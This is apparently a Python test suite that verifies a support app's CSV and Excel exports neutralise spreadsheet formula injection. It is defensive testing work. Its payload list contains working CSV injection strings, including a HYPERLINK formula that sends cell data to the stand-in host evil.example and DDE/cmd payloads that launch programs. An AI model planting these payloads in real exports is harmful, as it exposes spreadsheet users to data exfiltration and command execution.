"""CSV/Excel exports never hand a spreadsheet a formula written by a user.

Read back the bytes the export produces, the way a spreadsheet would (the csv module; openpyxl
for the workbook), and check each cell: a user's text that would start a formula arrives
with a leading quote, everything else arrives unchanged, and no cell of the workbook is a
formula.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from smartsupport_core.exports import FORMULA_PREFIXES, to_csv_bytes, to_excel_bytes

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"!A0")',
]

# Text a person can type (openpyxl refuses ASCII control characters other than \t\n\r).
typed_text = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\x00") | st.sampled_from("\t\r\n"),
    max_size=40,
)
risky_text = st.builds(lambda p, s: p + s, st.sampled_from(FORMULA_PREFIXES), typed_text)


def _expected(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_PREFIXES) else value


def _xml(value: str) -> str:
    """XML reading turns CR and CRLF into LF; that is not a change of meaning."""
    return value.replace("\r\n", "\n").replace("\r", "\n")


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _frame(values: list[str]) -> pd.DataFrame:
    return pd.DataFrame(
        {"ticket_number": [f"TKT2026{i:06d}" for i in range(len(values))], "subject": values, "cost": -1.5}
    )


def test_known_payloads_are_neutralised_in_csv_and_excel():
    df = _frame(PAYLOADS)
    rows = _csv_rows(to_csv_bytes(df))
    assert rows[0] == ["ticket_number", "subject", "cost"]
    for payload, row in zip(PAYLOADS, rows[1:], strict=True):
        assert row[1] == "'" + payload
        assert row[2] == "-1.5"  # a negative number is a number, not a formula to neutralise

    book = openpyxl.load_workbook(io.BytesIO(to_excel_bytes(df)))
    sheet = book.active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell of the workbook is a formula"
    subjects = [sheet.cell(row=i + 2, column=2).value for i in range(len(PAYLOADS))]
    assert subjects == [_xml("'" + p) for p in PAYLOADS]
    assert sheet.cell(row=2, column=3).value == -1.5


def test_column_headers_are_neutralised_too():
    df = pd.DataFrame({"=cmd": ["x"]})
    assert _csv_rows(to_csv_bytes(df))[0] == ["'=cmd"]


@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(risky_text | typed_text, min_size=1, max_size=6))
def test_any_text_round_trips_neutralised(values):
    df = _frame(values)
    rows = _csv_rows(to_csv_bytes(df))
    assert [r[1] for r in rows[1:]] == [_expected(v) for v in values]

    sheet = openpyxl.load_workbook(io.BytesIO(to_excel_bytes(df))).active
    for i, value in enumerate(values):
        cell = sheet.cell(row=i + 2, column=2)
        assert cell.data_type != "f"
        assert (cell.value or "") == _xml(_expected(value))


def test_a_carriage_return_cannot_start_a_formula_row():
    """A bare CR inside a cell must be quoted: spreadsheets split rows on it."""
    df = pd.DataFrame({"subject": ['broken\r=HYPERLINK("http://evil.example")', "next"]})
    rows = _csv_rows(to_csv_bytes(df))
    assert rows == [["subject"], ['broken\r=HYPERLINK("http://evil.example")'], ["next"]]
    assert b'"broken\r=HYPERLINK' in to_csv_bytes(df).replace(b'""', b'"')
